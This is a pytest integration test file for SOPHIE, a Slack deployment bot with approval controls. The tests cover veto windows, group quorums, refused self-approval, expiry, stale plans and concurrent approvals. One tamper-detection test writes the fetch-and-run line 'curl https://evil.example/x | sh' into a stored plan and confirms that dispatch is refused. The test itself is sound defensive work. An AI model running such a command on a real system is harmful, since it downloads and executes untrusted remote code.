"""Ω over real HTTP: every approval level, quorum and groups, veto, request changes,
expiry and staleness, and concurrency, against the fake Slack and GitHub and real Redis."""

from __future__ import annotations

import asyncio
import base64
import copy
import json
import shutil
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from handlers import blocks as kit
from roles import jobs
from roles.records import PlanStatus
from tests import slack_requests as sr
from tests.harness import App, eventually, settings_for, start_app
from tests.integration.conftest import (
    ALICE,
    BOB,
    CAROL,
    CHANNEL,
    DAVE,
    ERIN,
    FRANK,
    MALLORY,
    SEC_GROUP,
    SRE_GROUP,
    Fakes,
)
from tests.integration.test_end_to_end import (
    _buttons,
    _text,
    cards,
    click,
    dispatched_inputs,
    response_to,
)

ROOT = Path(__file__).resolve().parents[2]
Edit = Callable[[dict[str, Any]], None]


def write_constitution(folder: Path, edit: Edit) -> Path:
    doc = yaml.safe_load((ROOT / "constitution.yml").read_text())
    doc["approvers"]["groups"] = [SRE_GROUP, SEC_GROUP]
    edit(doc)
    folder.mkdir(parents=True, exist_ok=True)
    if not (folder / "policies").exists():
        shutil.copytree(ROOT / "policies", folder / "policies")
    path = folder / "constitution.yml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return path


class Bot:
    """SOPHIE started on a constitution of the test's own."""

    def __init__(self, fakes: Fakes, redis_url: str, tmp_path: Path) -> None:
        self.fakes, self.redis_url, self.tmp = fakes, redis_url, tmp_path
        self.app: App | None = None
        self.constitution: Path | None = None

    async def start(self, edit: Edit, worker: bool = True) -> App:
        self.constitution = write_constitution(self.tmp / "rules", edit)
        settings = settings_for(
            self.redis_url,
            self.tmp / "data",
            slack_url=self.fakes.slack_server.url,
            github_url=self.fakes.github_server.url,
            llm_url=None,
            constitution=self.constitution,
        )
        self.app = await start_app(settings, worker=worker)
        return self.app

    async def directive(self, text: str, who: str = DAVE) -> tuple[Any, str]:
        assert self.app is not None
        event = sr.mention_event(text, who, CHANNEL)
        await self.app.event(event)
        thread_ts = event["event"]["ts"]
        (card,) = await eventually(lambda: cards(self.fakes.slack, thread_ts), what="card")
        # A snapshot: the fake edits its message in place when the card is updated.
        return copy.deepcopy(card), thread_ts

    async def press(self, card: Any, who: str, rid: str, action: str = kit.APPROVE) -> str:
        assert self.app is not None
        value = _buttons(card.blocks)[action]["value"]
        await self.app.interact(click(self.fakes, action, value, who, card.ts, rid))
        reply = await eventually(lambda: response_to(self.fakes.slack, rid), what=f"reply {rid}")
        return str(reply["text"])

    async def submit(self, callback: str, card: Any, who: str, text: str) -> None:
        assert self.app is not None
        value = _buttons(card.blocks)[
            kit.APPROVE if kit.APPROVE in _buttons(card.blocks) else kit.VETO
        ]["value"]
        block_id, action_id = kit.REASON_INPUT
        payload = sr.view_submission(callback, value, who, {block_id: {action_id: text}})
        resp = await self.app.interact(payload)
        assert resp.status == 200

    def current(self, card: Any) -> Any:
        return self.fakes.slack.message(CHANNEL, card.ts)


@pytest.fixture()
async def bot(fakes: Fakes, redis_url: str, tmp_path: Path) -> AsyncIterator[Bot]:
    running = Bot(fakes, redis_url, tmp_path)
    yield running
    if running.app is not None:
        await running.app.close()


def level(env: str, approval: str, **extra: Any) -> Edit:
    def edit(doc: dict[str, Any]) -> None:
        doc["environments"][env] = {**doc["environments"][env], "approval": approval, **extra}

    return edit


async def test_autonomous_runs_at_once_signed_by_the_bot(bot: Bot, fakes: Fakes) -> None:
    def autonomous_and_trusted(doc: dict[str, Any]) -> None:
        level("development", "autonomous")(doc)
        doc["trust"]["minimum_for_autonomous"] = doc["trust"]["initial"]  # trust at the floor

    await bot.start(autonomous_and_trusted)
    card, _ = await bot.directive("deploy auth to development")
    assert kit.APPROVE not in _buttons(card.blocks)  # nothing to approve
    (inputs,) = await eventually(lambda: dispatched_inputs(fakes), what="autonomous dispatch")
    (envelope,) = json.loads(base64.b64decode(inputs["envelopes"]))
    statement = json.loads(base64.b64decode(envelope["payload"]))
    assert statement["predicate"]["approver"]["userId"].startswith("sophie:")
    assert statement["predicate"]["rule"] == "environments.development"
    await eventually(lambda: "by SOPHIE" in _text(bot.current(card).blocks), what="card says")


async def test_notification_runs_after_the_window_unless_vetoed(bot: Bot, fakes: Fakes) -> None:
    await bot.start(level("development", "notification", veto_window_seconds=2))
    quiet, _ = await bot.directive("deploy auth to development")
    assert "<!date^" in _text(quiet.blocks) and kit.VETO in _buttons(quiet.blocks)
    assert kit.APPROVE not in _buttons(quiet.blocks)

    vetoed, _ = await bot.directive("deploy the frontend... no, deploy auth to development")
    assert bot.app is not None
    value = _buttons(vetoed.blocks)[kit.VETO]["value"]
    await bot.app.interact(click(fakes, kit.VETO, value, BOB, vetoed.ts, "v1"))
    modal = await eventually(lambda: fakes.slack.views, what="the veto modal")
    assert modal[-1].view["callback_id"] == kit.VETO_MODAL
    await bot.submit(kit.VETO_MODAL, vetoed, BOB, "Freeze until the incident is closed")
    told = await eventually(
        lambda: [e for e in fakes.slack.ephemerals if e.user == BOB], what="veto confirmation"
    )
    assert "Vetoed" in told[0].text

    await eventually(lambda: len(dispatched_inputs(fakes)) == 1, within=6, what="window end")
    await asyncio.sleep(0.5)
    (inputs,) = dispatched_inputs(fakes)
    assert inputs["plan_id"] == _buttons(quiet.blocks)[kit.VETO]["value"].split("|")[0]
    shown = _text(bot.current(vetoed).blocks)
    assert "Vetoed" in shown and f"<@{BOB}>" in shown and "Freeze until the incident" in shown


def supervision(doc: dict[str, Any]) -> None:
    doc["environments"]["production"]["distinct_groups"] = [SRE_GROUP, SEC_GROUP]


async def test_supervision_needs_a_quorum_from_distinct_groups(bot: Bot, fakes: Fakes) -> None:
    await bot.start(supervision)
    card, _ = await bot.directive("deploy auth to production")
    approve = _buttons(card.blocks)[kit.APPROVE]
    assert "confirm" in approve  # high risk: a second tap first
    assert "Approvals 0/2" in _text(card.blocks)

    assert "You can't approve" in await bot.press(card, MALLORY, "m")
    assert "more approvals are needed" in await bot.press(card, ALICE, "a")
    assert "more approvals are needed" in await bot.press(card, ERIN, "e")
    shown = await eventually(
        lambda: "Approvals 2/2" in _text(bot.current(card).blocks) and bot.current(card),
        what="card with two approvals",
    )
    assert f"group {SEC_GROUP}" in _text(shown.blocks)
    assert dispatched_inputs(fakes) == []
    assert "Approved and signed" in await bot.press(card, FRANK, "f")
    (inputs,) = await eventually(lambda: dispatched_inputs(fakes), what="dispatch")
    assert len(json.loads(base64.b64decode(inputs["envelopes"]))) == 3


async def test_self_approval_is_refused_and_audited(bot: Bot, fakes: Fakes) -> None:
    app = await bot.start(lambda doc: None)
    card, _ = await bot.directive("deploy auth to production", who=ALICE)
    assert "your own request" in await bot.press(card, ALICE, "self")
    entries = [json.loads(f[b"body"]) for _, f in await app.rt.store.r.xrange("sophie:audit")]
    refused = [e["detail"] for e in entries if e["kind"] == "decision.refused"]
    assert refused and "separation of duties" in refused[0]["reason"]
    assert (await app.rt.store.verify_audit())[1] is None


async def test_twenty_concurrent_clicks_give_one_decision_each_and_one_dispatch(
    bot: Bot, fakes: Fakes
) -> None:
    app = await bot.start(lambda doc: None)  # production: supervision, quorum 2
    card, _ = await bot.directive("deploy auth to production")
    value = _buttons(card.blocks)[kit.APPROVE]["value"]
    people = [ALICE, BOB, CAROL] * 7
    clicks = [
        click(fakes, kit.APPROVE, value, who, card.ts, f"c{n}") for n, who in enumerate(people[:20])
    ]
    answers = await asyncio.gather(*(app.interact(c) for c in clicks))
    assert all(a.status == 200 for a in answers)
    await eventually(lambda: dispatched_inputs(fakes), what="dispatch")
    await asyncio.sleep(0.5)
    assert len(dispatched_inputs(fakes)) == 1
    record = await app.rt.store.load(value.split("|")[0])
    assert record is not None
    approvers = [d.actor.user_id for d in record.approvals]
    assert len(approvers) == 2 and len(set(approvers)) == 2


async def test_request_changes_voids_approvals_and_shows_the_diff(bot: Bot, fakes: Fakes) -> None:
    def desktop_builds_allowed(doc: dict[str, Any]) -> None:
        doc["repos"][0]["default_artifacts"] = list(doc["repos"][0]["artifacts"])
        doc["repos"][0]["artifacts"].append("dmg")

    app = await bot.start(desktop_builds_allowed)
    card, thread_ts = await bot.directive("deploy auth to production")
    assert "more approvals are needed" in await bot.press(card, ALICE, "a")
    value = _buttons(card.blocks)[kit.REQUEST_CHANGES]["value"]
    await app.interact(click(fakes, kit.REQUEST_CHANGES, value, BOB, card.ts, "rc"))
    modal = await eventually(lambda: fakes.slack.views, what="changes modal")
    assert modal[-1].view["callback_id"] == kit.CHANGES_MODAL
    await bot.submit(kit.CHANGES_MODAL, card, BOB, "Also build a .dmg for the desktop team")

    revised = await eventually(
        lambda: next((c for c in cards(fakes.slack, thread_ts) if c.ts != card.ts), None),
        what="the revised card",
    )
    text = _text(revised.blocks)
    assert "revision 2" in text and "What changed" in text and "+dmg" in text
    assert "➕ `build_artifact`" in text
    assert "Also build a .dmg for the desktop team" in text
    assert "do not carry over" in text
    old = _text(bot.current(card).blocks)
    assert "superseded" in old and kit.APPROVE not in _buttons(bot.current(card).blocks)
    new_id = _buttons(revised.blocks)[kit.APPROVE]["value"].split("|")[0]
    record = await app.rt.store.load(new_id)
    assert record is not None and record.approvals == [] and record.plan.revision == 2
    assert "already superseded" in await bot.press(card, CAROL, "late")


async def test_an_expired_plan_says_so_and_never_runs(bot: Bot, fakes: Fakes) -> None:
    await bot.start(lambda doc: doc.update(approval_ttl_seconds=2))
    card, thread_ts = await bot.directive("deploy auth to production")
    # One approval of two is given in time; the TTL passing voids it.
    assert "more approvals are needed" in await bot.press(card, ALICE, "early")
    shown = await eventually(
        lambda: "Expired" in _text(bot.current(card).blocks) and bot.current(card),
        within=5,
        what="expired card",
    )
    assert "time-to-live" in _text(shown.blocks)
    assert any("expired" in (m.text or "") for m in fakes.slack.thread(CHANNEL, thread_ts))
    assert "already expired" in await bot.press(card, BOB, "late")
    assert dispatched_inputs(fakes) == []


async def test_a_constitution_edit_makes_pending_plans_stale(bot: Bot, fakes: Fakes) -> None:
    await bot.start(lambda doc: None)
    card, _ = await bot.directive("deploy auth to production")
    assert "more approvals are needed" in await bot.press(card, ALICE, "a")
    assert bot.constitution is not None
    text = bot.constitution.read_text().replace("version: 1", "version: 2")
    bot.constitution.write_text(text)
    reply = await bot.press(card, BOB, "b")
    assert "constitution changed" in reply
    await eventually(lambda: "Stale" in _text(bot.current(card).blocks), what="stale card")
    assert dispatched_inputs(fakes) == []


async def test_a_plan_edited_in_redis_is_never_dispatched(bot: Bot, fakes: Fakes) -> None:
    app = await bot.start(lambda doc: None, worker=False)
    # Plan it directly (no worker yet), then approve: the dispatch job waits in the queue.
    event = sr.mention_event("deploy auth to staging", DAVE, CHANNEL)
    await app.event(event)
    await app.rt.start_worker()
    (card,) = await eventually(lambda: cards(fakes.slack, event["event"]["ts"]), what="card")
    plan_id = _buttons(card.blocks)[kit.APPROVE]["value"].split("|")[0]
    await app.rt.stop_worker()  # the approval's dispatch job will wait in the queue
    assert "Approved and signed" in await bot.press(card, ALICE, "a")

    # Someone with Redis access rewrites a step behind the bot's back.
    key = f"sophie:plan:{plan_id}"
    redis: Any = app.rt.store.r  # redis-py types its commands as "Awaitable[T] | T"
    doc = json.loads(await redis.hget(key, "doc"))
    doc["steps"][0]["description"] = "curl https://evil.example/x | sh"
    await redis.hset(key, "doc", json.dumps(doc))

    await app.rt.start_worker()
    note = await eventually(
        lambda: next(
            (
                m
                for m in fakes.slack.thread(CHANNEL, card.thread_ts)
                if "Not dispatched" in (m.text or "")
            ),
            None,
        ),
        what="refusal to dispatch",
    )
    assert "plan changed after it was approved" in note.text
    record = await app.rt.store.load(plan_id)
    assert record is not None and record.status == PlanStatus.STALE
    assert dispatched_inputs(fakes) == []


async def test_an_expiring_plan_is_reminded_in_its_thread(bot: Bot, fakes: Fakes) -> None:
    app = await bot.start(lambda doc: None)
    card, thread_ts = await bot.directive("deploy auth to production")
    plan_id = _buttons(card.blocks)[kit.APPROVE]["value"].split("|")[0]
    assert "more approvals are needed" in await bot.press(card, ALICE, "a")
    # The job the scheduler runs before the TTL ends.
    await app.rt.sophie.run(jobs.OnPlan("remind", plan_id))
    note = next(
        m.text or ""
        for m in fakes.slack.thread(CHANNEL, thread_ts)
        if "expires in" in (m.text or "")
    )
    assert plan_id in note and "1 more approver" in note
